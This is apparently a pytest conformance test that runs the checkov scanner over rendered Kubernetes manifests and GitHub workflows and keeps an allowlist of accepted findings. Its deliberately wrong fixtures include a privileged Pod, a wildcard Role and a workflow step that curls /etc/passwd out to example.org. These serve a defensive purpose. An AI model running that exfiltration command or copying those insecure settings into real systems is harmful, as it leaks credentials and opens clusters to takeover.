"""checkov judges every container as the Pod that it would be, and our own Roles, policies and workflows as they are."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

from fairlead.output.yaml import dump
from tests.conformance import matrix
from tests.conformance.matrix import distinct
from tests.conformance.shadow_pods import VARIABLE, containers, pods

Tool = Callable[[str], Path]
STEP = r"(WorkflowTemplate|CronWorkflow|TrainingRuntime)-"
SERVER = r"InferenceService-"
ACCEPTED = {
    "CKV_K8S_8": (rf"{STEP}|{SERVER}", "a step ends by itself; a busy server that answers late must not be restarted"),
    "CKV_K8S_9": (STEP, "nobody calls a step, so it is never ready for calls"),
    "CKV_K8S_15": (r"^[0-9]+/staging/", "only where an image has no digest, which a protected environment refuses"),
    "CKV_K8S_29": (
        rf"{SERVER}scene-encoder",
        "Knative refuses a Pod's security context; the containers have it",
    ),
    "CKV_K8S_35": (rf"{STEP}|{SERVER}", "the specification says which variable a command reads a secret from"),
    "CKV_K8S_40": (SERVER, "a server's image has its own user, who owns its files"),
    "CKV_K8S_43": (r"^[0-9]+/staging/", "what was never locked has a tag; a protected environment refuses it"),
}
"""What checkov finds that we leave as it is: where, and why. Whatever is not met any more is taken out."""
OWN = {"ConfigMap", "NetworkPolicy", "PodDisruptionBudget", "Role", "RoleBinding", "Secret", "ServiceAccount"}
WRONG_POD = {
    "apiVersion": "v1",
    "kind": "Pod",
    "metadata": {"name": "wrong", "namespace": "ml"},
    "spec": {"containers": [{"name": "main", "image": "nginx", "securityContext": {"privileged": True}}]},
}
WRONG_ROLE = {
    "apiVersion": "rbac.authorization.k8s.io/v1",
    "kind": "Role",
    "metadata": {"name": "wrong", "namespace": "ml"},
    "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}],
}
WRONG_WORKFLOW = {
    "name": "wrong",
    "on": {"push": {}},
    "permissions": "write-all",
    "jobs": {"a": {"runs-on": "ubuntu-24.04", "steps": [{"run": "curl -d @/etc/passwd https://example.org"}]}},
}


def test_nothing_is_found_that_is_not_accepted_and_every_mistake_is(
    cells: list[Path], tool: Tool, tmp_path: Path
) -> None:
    checkov = tool("checkov")
    written = _written(cells, tmp_path / "judged")
    found = _run(checkov, tmp_path / "judged")
    wrong = {finding for finding in found if finding[1].startswith(("wrong/", ".github/workflows/wrong"))}
    assert {"CKV_K8S_16", "CKV_K8S_28", "CKV_K8S_49", "CKV2_GHA_1"} <= {check for check, _ in wrong}
    unexpected = {
        (check, path)
        for check, path in found - wrong
        if check not in ACCEPTED or not re.search(ACCEPTED[check][0], path)
    }
    assert unexpected == set()
    assert {check for check, _ in found - wrong} == ACCEPTED.keys(), "something is accepted that is no longer found"
    assert written > 150


def test_a_shadow_is_cast_by_every_container(cells: list[Path]) -> None:
    for root in cells:
        manifests = [manifest for _, manifest in matrix.resources(root)]
        assert {*containers([pod.manifest for pod in pods(manifests)])} == {*filled(containers(manifests))}, root
        assert len([*containers(manifests)]) > 40


def filled(found: Iterable[tuple[str, ...]]) -> Iterator[tuple[str, ...]]:
    return (tuple(VARIABLE.sub("filled-in", text) for text in each) for each in found)


def _written(cells: list[Path], folder: Path) -> int:
    """Writes what is judged, each manifest once; how many there are."""
    seen: set[str] = set()
    for number, root in enumerate(cells):
        for environment in sorted((root / "rendered").iterdir()):
            manifests = [each for _, each in matrix.manifests(sorted(environment.rglob("*.yaml")))]
            named = [(f"{pod.kind}-{pod.name}-{pod.part}", pod.manifest) for pod in pods(manifests)]
            named += [(f"{each['kind']}-{each['metadata']['name']}", each) for each in manifests if each["kind"] in OWN]
            for name, manifest in named:
                text = dump(manifest)
                if text not in seen:
                    seen.add(text)
                    target = folder / str(number) / environment.name / f"{name.replace(' ', '-')}.yaml"
                    target.parent.mkdir(parents=True, exist_ok=True)
                    target.write_text(text, encoding="utf-8")
    (folder / "wrong").mkdir()
    (folder / "wrong/pod.yaml").write_text(dump(WRONG_POD), encoding="utf-8")
    (folder / "wrong/role.yaml").write_text(dump(WRONG_ROLE), encoding="utf-8")
    workflows = folder / ".github/workflows"
    workflows.mkdir(parents=True)
    for number, path in enumerate(distinct(path for root in cells for path in sorted(root.glob(".github/*/*.yml")))):
        shutil.copy(path, workflows / f"{number}-{path.name}")
    (workflows / "wrong.yml").write_text(dump(WRONG_WORKFLOW), encoding="utf-8")
    return len(seen)


def _run(checkov: Path, folder: Path) -> set[tuple[str, str]]:
    """The check and the file of each finding; nothing is asked of a network, and nothing told."""
    surroundings = {name: value for name, value in os.environ.items() if not name.startswith(("BC_", "PRISMA_"))}
    command = [checkov, "--directory", folder, "--framework", "kubernetes", "github_actions", "--skip-download"]
    done = subprocess.run(
        [*map(str, command), "--compact", "--quiet", "--output", "json"],
        cwd=folder,
        env=surroundings,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1, done.stdout[-2000:] + done.stderr[-2000:]
    reports: list[Any] = json.loads(done.stdout)
    assert {report["check_type"] for report in reports} == {"kubernetes", "github_actions"}
    assert all(report["summary"]["parsing_errors"] == 0 for report in reports)
    return {
        (finding["check_id"], finding["file_path"].lstrip("/"))
        for report in reports
        for finding in report["results"]["failed_checks"]
    }
